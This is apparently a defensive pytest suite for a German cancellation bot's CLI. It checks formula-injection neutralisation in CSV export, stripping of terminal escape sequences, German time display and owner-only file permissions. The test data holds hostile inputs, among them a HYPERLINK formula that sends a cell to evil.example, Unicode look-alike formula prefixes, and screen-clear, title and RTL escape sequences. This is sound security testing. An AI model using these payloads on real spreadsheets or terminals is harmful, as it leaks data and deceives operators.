"""What the CLI prints or writes cannot attack the operator: no spreadsheet formulas, no
terminal escape sequences, no files readable by other users."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import unicodedata
from datetime import date, datetime, timezone

import pytest

from bot.cli import main
from bot.cli.output import csv_cell, terminal_text
from cancellation.log import AttemptLog

HOSTILE_PROVIDERS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n@cmd",
    # Full-width and small look-alikes: some spreadsheets fold them to = + - @ (NFKC).
    "\uff1d1+1",  # ＝
    "\uff0bSUM(1)",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1)",  # ＠
    "\ufe661+1",  # ﹦
    "  \uff1d1+1",
    "\t\uff0b1",
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # invisible before the formula
    "\ufeff\u00a0@SUM(1)",
]
ESCAPES = "Evil\x1b[2J\x1b]0;gehackt\x07Corp\x9b31m\u202eRTL\x00\x08"


@pytest.fixture
def log(tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    attempt_log = AttemptLog.from_url(f"sqlite:///{tmp_path / 'cli.db'}", upgrade_schema=True)
    yield attempt_log
    attempt_log.dispose()


def letter(log, provider: str, subject: str = "Vertrag") -> str:
    return log.evidence.create_letter_attempt(
        channel="web", conversation_id="c", provider=provider, subject_kind="option",
        subject=subject, requested_end=date(2027, 1, 31), personal_data={"name": "Erika"},
        render=lambda reference: b"%PDF-1.4 " + reference.encode(),
    ).reference


def output(capsys, *argv: str) -> str:
    assert main(list(argv)) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize("value", HOSTILE_PROVIDERS)
def test_formula_cells_are_neutralised(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["o2", "Studio Zoë", "KB-2026-7F3K9Q", "1&1", "Vertrag = teuer", "\uff11\uff06\uff11", "Tarif \uff0b"]
)
def test_ordinary_cells_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_csv_export_has_no_formula_cell(log, capsys):
    for value in HOSTILE_PROVIDERS:
        letter(log, value.strip() or value, subject=value.strip() or value)

    rows = list(csv.DictReader(io.StringIO(output(capsys, "attempts", "list", "--csv"))))

    assert len(rows) == len(HOSTILE_PROVIDERS)
    for row in rows:
        for cell in row.values():
            folded = unicodedata.normalize("NFKC", cell).lstrip(" \t\r\n\u200b\ufeff")
            assert not folded[:1] in ("=", "+", "-", "@") or cell.startswith("'"), cell


def test_terminal_output_has_no_escape_or_control_characters(log, capsys):
    reference = letter(log, ESCAPES, subject=ESCAPES)

    table = output(capsys, "attempts", "list")
    shown = output(capsys, "attempts", "show", reference)
    listed = output(capsys, "attempts", "list", "--json")

    for text in (table, shown):
        body = text.replace("\n", "")
        assert not any(ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F for char in body), repr(text)
        assert "\u202e" not in text
        assert "EvilCorp" not in text and "Corp" in text
    assert "\x1b" not in listed and "\x9b" not in listed and "\u202e" not in listed
    assert json.loads(listed)[0]["provider"] == ESCAPES  # JSON keeps the data, escaped


def test_terminal_text_keeps_ordinary_text():
    assert terminal_text("Telefónica Germany GmbH & Co. OHG – „Zoë“") == (
        "Telefónica Germany GmbH & Co. OHG – „Zoë“"
    )


def test_times_in_tables_are_german_local_time_and_labelled(log, capsys):
    reference = letter(log, "o2")
    record = log.reads.get(reference)

    table = output(capsys, "attempts", "list")
    shown = output(capsys, "attempts", "show", reference)

    from cancellation.clock import local_time_text
    assert "Erstellt (dt. Zeit)" in table and local_time_text(record.created_at) in table
    assert f"Erstellt (deutsche Zeit):" in shown and local_time_text(record.created_at) in shown
    assert "UTC" not in table and "UTC" not in shown


def test_summer_and_winter_times_are_shown_as_in_germany():
    from cancellation.clock import local_time_text
    assert local_time_text(datetime(2027, 1, 15, 11, 0, tzinfo=timezone.utc)) == "15.01.2027, 12:00 Uhr"
    assert local_time_text(datetime(2027, 7, 15, 11, 0, tzinfo=timezone.utc)) == "15.07.2027, 13:00 Uhr"


def test_database_and_exported_files_are_readable_by_their_owner_only(
    tmp_path, monkeypatch, capsys
):
    old_umask = os.umask(0o022)  # what a default shell gives: files would be 0644
    try:
        url = f"sqlite:///{tmp_path / 'private.db'}"
        monkeypatch.setenv("DATABASE_URL", url)
        log = AttemptLog.from_url(url, upgrade_schema=True)
        # SQLite removes -wal and -shm when the last connection closes: keep one open.
        held = sqlite3.connect(tmp_path / "private.db")
        held.execute("SELECT count(*) FROM attempts").fetchall()
        reference = letter(log, "o2")
        (tmp_path / "old.pdf").write_bytes(b"old")  # exists with 0644 before the export
        assert stat.S_IMODE((tmp_path / "old.pdf").stat().st_mode) == 0o644

        output(capsys, "letter", reference, "-o", str(tmp_path / "brief.pdf"))
        output(capsys, "letter", reference, "-o", str(tmp_path / "old.pdf"))
        output(capsys, "evidence", reference, "-o", str(tmp_path / "nachweis.pdf"))
        output(capsys, "attempts", "anchor", "-o", str(tmp_path / "anker.json"))

        files = ["private.db", "private.db-wal", "private.db-shm", "brief.pdf", "old.pdf",
                 "nachweis.pdf", "anker.json"]
        modes = {name: stat.S_IMODE((tmp_path / name).stat().st_mode) for name in files}
        assert modes == {name: 0o600 for name in files}
        assert (tmp_path / "old.pdf").read_bytes() == log.reads.letter_pdf(reference)
        held.close()
        log.dispose()
    finally:
        os.umask(old_umask)


def test_an_existing_database_file_is_tightened(tmp_path):
    path = tmp_path / "old.db"
    path.write_bytes(b"")
    path.chmod(0o644)
    AttemptLog.from_url(f"sqlite:///{path}", upgrade_schema=True).dispose()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
